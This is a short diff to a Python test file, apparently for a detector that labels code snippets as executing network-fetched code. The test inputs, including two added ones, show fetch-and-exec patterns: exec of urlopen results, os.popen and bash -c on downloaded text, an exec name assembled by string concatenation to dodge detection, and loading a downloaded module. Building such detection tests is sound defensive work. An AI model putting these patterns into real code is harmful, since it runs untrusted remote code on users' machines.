@@ -24,6 +24,8 @@ def origins(*programs: str) -> list[str]:
         ("from urllib.request import urlopen as u\nexec(u('https://x.invalid').read().decode())", "network"),
         (f"with open('p.py', 'w') as f:\n    f.write({GET}.text)\nexec(open('p.py').read())", "network"),
         (f"os.popen({GET}.text)", "network"),
+        (f"g = getattr(__builtins__, 'ex' + 'ec')\ng({GET}.text)", "network"),
+        ("urlretrieve('https://x.invalid/m', 'm.py')\ns = u.spec_from_file_location('m', 'm.py')", "network"),
         (f"subprocess.run(['bash', '-c', {GET}.text])", "network"),
         (f"x: str = {GET}.text\nexec(x)", "network"),
         (f"exec({GET}.text if y else z)", "network"),
